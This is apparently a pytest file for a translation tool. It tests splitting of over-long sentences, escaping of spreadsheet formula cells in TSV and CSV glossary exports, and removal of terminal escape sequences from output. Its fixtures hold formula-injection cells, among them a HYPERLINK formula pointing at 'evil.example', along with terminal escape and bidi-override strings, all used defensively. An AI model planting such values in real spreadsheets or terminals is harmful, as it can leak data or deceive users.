"""Hostile text: sentences too long for an engine, cells a spreadsheet would run as formulas,
and terminal escape sequences in articles and PO files."""

from __future__ import annotations

import csv
import io
import re
import time
from pathlib import Path

import pytest

from glossator.formats import get_format
from glossator.formats.po import read_po
from glossator.formats.tsv import parse_tsv, read_tsv
from glossator.glossary.csv import load_glossaries
from glossator.glossary.model import Concept
from glossator.glossary.tbx import read_tbx, write_csv
from glossator.model import Document, Segment
from glossator.review.terminal import render_review
from glossator.text.article import parse_article
from glossator.text.document import build_document
from glossator.text.segmenter import (
    INFO_NOTE,
    MAX_SEGMENT_CHARS,
    clause_spans,
    segment_paragraph,
)
from helpers import run_cli

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
SGR = re.compile(r"\x1b\[[0-9;]*m")
WORDS = "the talks in Pyongyang went on for hours while officials waited outside".split()


def words(count: int, *, seed: int = 0, comma_every: int = 0) -> str:
    """`count` words without sentence punctuation (a comma after every `comma_every`th)."""
    out = []
    for index in range(count):
        word = WORDS[(index * 7 + seed) % len(WORDS)]
        if comma_every and index % comma_every == comma_every - 1:
            word += ","
        out.append(word)
    return " ".join(out)


def article(*paragraphs: str) -> Document:
    text = "\n\n".join(["Talks in Pyongyang", *paragraphs]) + "\n"
    return build_document(parse_article(text, Path("long.txt")), "en")


def paragraph_segments(document: Document, number: int) -> list[Segment]:
    return [segment for segment in document.segments if segment.paragraph == number]


# --- sentences too long for an engine ---------------------------------------------------------

def test_an_unpunctuated_50_kb_paragraph_becomes_numbered_pieces_with_a_note():
    wall = words(9000)
    assert len(wall) > 50_000
    document = article(wall, "Short one. And two.")
    pieces = paragraph_segments(document, 2)
    assert len(pieces) > 50
    assert [s.id for s in pieces] == [f"2.{index}" for index in range(1, len(pieces) + 1)]
    assert all(len(s.source) <= MAX_SEGMENT_CHARS for s in pieces)
    assert " ".join(s.source for s in pieces) == wall  # cut at spaces: no word is split
    note = f"{INFO_NOTE}2.1–2.{len(pieces)} are one sentence of {len(wall):,} characters"
    assert all(len(s.notes) == 1 and s.notes[0].startswith(note) for s in pieces)
    assert [(s.id, s.notes) for s in paragraph_segments(document, 3)] == [
        ("3.1", []), ("3.2", [])]


def test_pieces_and_the_next_sentence_are_numbered_on():
    long_sentence = words(300, comma_every=9) + "."
    assert len(long_sentence) > MAX_SEGMENT_CHARS
    document = article(f"{long_sentence} Then they left.")
    segments = paragraph_segments(document, 2)
    assert [s.id for s in segments][-1] == f"2.{len(segments)}"
    *pieces, last = segments
    assert len(pieces) >= 2 and last.source == "Then they left." and last.notes == []
    assert all(s.notes[0].startswith(f"{INFO_NOTE}2.1–2.{len(pieces)} ") for s in pieces)
    assert all(s.source.endswith(",") for s in pieces[:-1])  # at commas, not between words


def test_segment_paragraph_gives_ids_offsets_and_split_notes():
    long_sentence = "They said " + words(300, comma_every=9) + "."
    text = f"First one. {long_sentence} Then they left."
    pieces = segment_paragraph(text, "en-GB", paragraph=4, first=7)
    assert [p.id for p in pieces] == [f"4.{n}" for n in range(7, 7 + len(pieces))]
    assert all(text[p.start:p.end] == p.text for p in pieces)
    first, *split, last = pieces
    assert (first.text, first.notes, last.text, last.notes) == (
        "First one.", (), "Then they left.", ())
    assert len(split) >= 2 and all(
        p.notes == (f"{INFO_NOTE}4.8–4.{7 + len(split)} are one sentence of "
                    f"{len(long_sentence):,} characters, split at clause boundaries before "
                    f"translation (limit {MAX_SEGMENT_CHARS:,} characters a segment)",)
        for p in split)


def test_segment_paragraph_keeps_a_title_whole_and_protected_spans_uncut():
    [title] = segment_paragraph("Talks. In Pyongyang", "en", paragraph=1, sentences=False)
    assert (title.id, title.text, title.notes) == ("1.1", "Talks. In Pyongyang", ())
    text = "He met Mr. Kim. Then he left."
    assert [p.text for p in segment_paragraph(text, "en", [(12, 20)], paragraph=2)] == [text]


def test_a_short_sentence_is_not_touched():
    sentence = words(150) + "."
    assert len(sentence) < MAX_SEGMENT_CHARS
    assert clause_spans(sentence, 0, len(sentence)) == [(0, len(sentence))]
    [segment] = paragraph_segments(article(sentence), 2)
    assert segment.notes == [] and segment.source == sentence


@pytest.mark.parametrize(("mark", "ends", "commas"), [
    ("; ", ";", True), ("；", "；", True), (": ", ":", True), ("：", "：", True),
    ("、", "、", False), (" — ", "—", False), (" – ", "–", False)])
def test_cuts_prefer_the_strongest_clause_boundary(mark: str, ends: str, commas: bool):
    """`;` and `:` win over the commas around them; with no commas, a dash or `、` wins over
    the spaces."""
    every = 4 if commas else 0
    text = words(120, comma_every=every) + mark + words(120, seed=3, comma_every=every)
    assert MAX_SEGMENT_CHARS < len(text) <= 2 * MAX_SEGMENT_CHARS
    first, second = clause_spans(text, 0, len(text))
    assert text[first[0]:first[1]].endswith(ends)
    assert second[1] == len(text)


def test_text_without_spaces_is_cut_anywhere_but_inside_a_protected_span():
    text = "字" * 3000
    pieces = clause_spans(text, 0, len(text))
    assert "".join(text[start:end] for start, end in pieces) == text
    assert all(end - start <= MAX_SEGMENT_CHARS for start, end in pieces)
    protected = [(900, 1100), (1400, 2600)]
    pieces = clause_spans(text, 0, len(text), protected)
    cuts = [end for _start, end in pieces[:-1]]
    assert not [cut for cut in cuts for start, end in protected if start < cut < end]
    assert "".join(text[start:end] for start, end in pieces) == text
    # a protected span longer than the limit stays whole
    assert clause_spans(text, 0, len(text), [(0, 1500)])[0] == (0, 1500)


def test_glossary_terms_are_never_cut():
    term = "Korean Central News Agency"
    wall = " ".join(f"{words(3, seed=index)} {term}" for index in range(1500))
    text = f"Talks\n\n{wall}\n"

    def protect(paragraph: str) -> list[tuple[int, int]]:
        return [(m.start(), m.end()) for m in re.finditer(term, paragraph)]

    document = build_document(parse_article(text, Path("t.txt")), "en", protect)
    pieces = paragraph_segments(document, 2)
    assert len(pieces) > 10
    assert sum(s.source.count(term) for s in pieces) == wall.count(term)
    # and with a limit where nearly every space falls inside a term
    spans = protect(wall)
    for start, end in clause_spans(wall, 0, len(wall), spans, limit=40):
        assert not [1 for s, e in spans if s < start < e or s < end < e]


def _best_time(text: str) -> float:
    parsed = parse_article(f"Title\n\n{text}\n", Path("t.txt"))

    def protect(paragraph: str) -> list[tuple[int, int]]:
        return [(m.start(), m.end()) for m in re.finditer("Pyongyang", paragraph)]

    best = float("inf")
    for _ in range(3):
        started = time.perf_counter()
        build_document(parsed, "en", protect)
        best = min(best, time.perf_counter() - started)
    return best


def test_segmenting_time_grows_linearly_with_the_paragraph():
    small = words(18_000)[:100_000]
    large = words(180_000)[:1_000_000]
    ratio = _best_time(large) / _best_time(small)
    # Linear is 10; quadratic would be 100.
    assert ratio < 30, f"1 MB took {ratio:.1f}× as long as 100 KB"


def test_a_reviewed_piece_is_not_flagged_for_ever(tmp_path: Path):
    document = article(words(400))
    document.target_lang = "pt"
    for segment in document.segments:
        segment.target = f"tradução de {segment.id}"
        segment.fuzzy = False
    pieces = paragraph_segments(document, 2)
    assert len(pieces) >= 2 and all(s.notes for s in pieces)
    path = tmp_path / "long.po"
    path.write_text(get_format("po").render(document), encoding="utf-8")
    assert "#. note: info: 2.1–2." in path.read_text(encoding="utf-8")
    back = read_po(path)
    assert [s.notes for s in back.segments] == [s.notes for s in document.segments]
    screen = render_review(back, width=120, color=False)
    assert "note: info: 2.1–2." in screen  # shown,
    assert re.search(r"^2\.1 ✓", screen, re.MULTILINE)  # but not a flag
    assert " 0 flagged" in screen
    assert render_review(back, width=120, color=False, only_flagged=True).endswith(
        "no flagged segments\n")
    back.segments[1].notes.append("glossary: 'X' should be rendered 'Y'")  # a real note flags
    assert re.search(r"^2\.1 !", render_review(back, width=120, color=False), re.MULTILINE)


# --- cells a spreadsheet would run ------------------------------------------------------------

CELLS = ["=SUM(A1:A9)", "+1 555 0100", "-5 degrees", "@channel", '"Yes," he said.',
         "'t Hooft", "'=already guarded", "''", "'", "'-", '"', '""', '"a"', '"unclosed',
         "'\"quote", "=a\tb\nc\rd\\e", "\t=tab first", "\n-newline first", "-", "=", "@",
         "plain", "", "x=1", "a \"quoted\" word", "\\=not an escape"]


def tsv_document() -> Document:
    return Document(name="cells", source_lang="en", target_lang="pt", segments=[
        Segment(f"1.{index}", text, 1, target=CELLS[-index], fuzzy=index % 2 == 0,
                comment=CELLS[index // 2])
        for index, text in enumerate(CELLS, start=1)])


def test_tsv_reads_back_every_hostile_cell_exactly(tmp_path: Path):
    document = tsv_document()
    path = tmp_path / "cells.tsv"
    path.write_text(get_format("tsv").render(document), encoding="utf-8")
    assert read_tsv(path) == [(s.id, s.source, s.target, "fuzzy" if s.fuzzy else "reviewed",
                               s.comment) for s in document.segments]


def test_tsv_cells_are_no_formulas_and_standard_readers_keep_the_columns():
    document = tsv_document()
    text = get_format("tsv").render(document)
    rows = list(csv.reader(io.StringIO(text), delimiter="\t"))  # a spreadsheet's reading
    assert len(rows) == len(document.segments) + 1
    for row, segment in zip(rows[1:], document.segments):
        assert len(row) == 5, row
        for cell, original in zip(row[1:3] + row[4:],
                                  (segment.source, segment.target, segment.comment)):
            assert not cell.startswith(("=", "+", "-", "@")), cell
            if not set(original) & set("\t\n\r\\"):
                # what a spreadsheet shows: the text, or the text behind a visible guard
                assert cell in (original, "'" + original), (cell, original)


def test_tsv_reader_still_reads_an_older_file_with_a_bare_leading_quote():
    old = 'id\tsource\ttarget\tstatus\n1.1\t"Yes," he said.\t"Sim," disse.\tfuzzy\n'
    assert parse_tsv(old)[0].source == '"Yes," he said.'


TBX = """<?xml version="1.0" encoding="UTF-8"?>
<martif type="TBX" xml:lang="en"><text><body>
<termEntry><descrip type="definition">=HYPERLINK("http://evil.example/?x","click")</descrip>
<langSet xml:lang="en"><tig><term>-ism</term></tig><tig><term>@home</term></tig></langSet>
<langSet xml:lang="pt"><tig><term>=SOMA(1;2)</term></tig><tig><term>-ismo</term></tig></langSet>
</termEntry>
<termEntry><descrip type="definition">+plus note</descrip>
<langSet xml:lang="en"><tig><term>+1 club</term></tig></langSet>
<langSet xml:lang="pt"><tig><term>'t Hooft</term></tig></langSet></termEntry>
<termEntry><descrip type="definition">'-already quoted note</descrip>
<langSet xml:lang="en"><tig><term>'t Hooft</term></tig></langSet>
<langSet xml:lang="pt"><tig><term>''duas aspas</term></tig></langSet></termEntry>
<termEntry>
<langSet xml:lang="en"><tig><term>'=odd</term></tig><tig><term>"quoted" name</term></tig>
</langSet>
<langSet xml:lang="pt"><tig><term>@pt</term></tig></langSet></termEntry>
</body></text></martif>
"""


def facts(concept: Concept) -> tuple:
    forms = {language: tuple(form.written() for form in concept.forms(language))
             for language in concept.renderings}
    return (concept.variants, forms, concept.note, concept.keep, concept.ignore_case)


def test_imported_glossary_csv_has_no_formulas_and_reads_back_the_same_terms(tmp_path: Path):
    tbx = tmp_path / "hostile.tbx"
    tbx.write_text(TBX, encoding="utf-8")
    target = tmp_path / "hostile.csv"
    result = run_cli("glossary", "import", str(tbx), "-o", str(target))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert "'=HYPERLINK(\"http://evil.example/?x\",\"click\")" in cells
    assert "''=odd | \"quoted\" name" in cells and "'t Hooft" in cells
    original = read_tbx(tbx)
    back = load_glossaries([target])
    assert [facts(c) for c in back.concepts] == [facts(c) for c in original.concepts]
    assert back.concepts[0].variants == ("-ism", "@home")
    assert write_csv(back) == target.read_text(encoding="utf-8")


def test_hand_written_cells_are_read_as_written(tmp_path: Path):
    path = tmp_path / "hand.csv"
    path.write_text("en,pt,note\n't Hooft,'t Hooft,\n-ism,-ismo, '-a guarded note\n",
                    encoding="utf-8")
    glossary = load_glossaries([path])
    assert [c.variants for c in glossary.concepts] == [("'t Hooft",), ("-ism",)]
    assert glossary.concepts[1].note == "-a guarded note"


# --- terminal escapes -------------------------------------------------------------------------

HOSTILE = "\x1b]0;pwned\x07\x1b[2J\u202eevil\x9b31m\x7f"
SHOWN = "␛]0;pwned␇␛[2J\ufffdevil\ufffd31m␡"


def test_segment_prints_no_escape_sequences(tmp_path: Path):
    path = tmp_path / "escapes.txt"
    path.write_text(f"Title {HOSTILE}\n\nThe minister arrived {HOSTILE} on Monday. "
                    f"He left\tlater.\n", encoding="utf-8")
    result = run_cli("segment", str(path))
    assert result.returncode == 0, result.stderr
    assert not CONTROL.search(result.stdout)
    assert result.stdout == (f"Title {SHOWN}\n\nThe minister arrived {SHOWN} on Monday.\n"
                             "He left\tlater.\n")


def escapes_po(tmp_path: Path) -> Path:
    document = Document(name="escapes", source_lang="en", target_lang="pt", segments=[
        Segment("1.1", f"Title {HOSTILE}", 1, kind="title", target=f"Título {HOSTILE}"),
        Segment("2.1", f"Kim said {HOSTILE} today.", 2, target=f"Kim disse {HOSTILE} hoje.",
                notes=[f"check {HOSTILE}"], qa=[f"odd: {HOSTILE}"]),
    ])
    path = tmp_path / "escapes.po"
    path.write_text(get_format("po").render(document), encoding="utf-8")
    return path


def test_review_prints_no_escape_sequences_but_its_own_colours(tmp_path: Path):
    path = escapes_po(tmp_path)
    plain = run_cli("review", str(path), "--color", "never", "--width", "120")
    assert plain.returncode == 0, plain.stderr
    assert not CONTROL.search(plain.stdout)
    assert "\x1b" not in plain.stdout
    assert f"Kim said {SHOWN} today." in plain.stdout and f"note: check {SHOWN}" in plain.stdout

    coloured = run_cli("review", str(path), "--color", "always", "--width", "120")
    assert coloured.returncode == 0, coloured.stderr
    assert "\x1b[1m" in coloured.stdout and "\x1b[35m" in coloured.stdout  # header, note
    assert not CONTROL.search(SGR.sub("", coloured.stdout))
    assert SGR.sub("", coloured.stdout) == plain.stdout
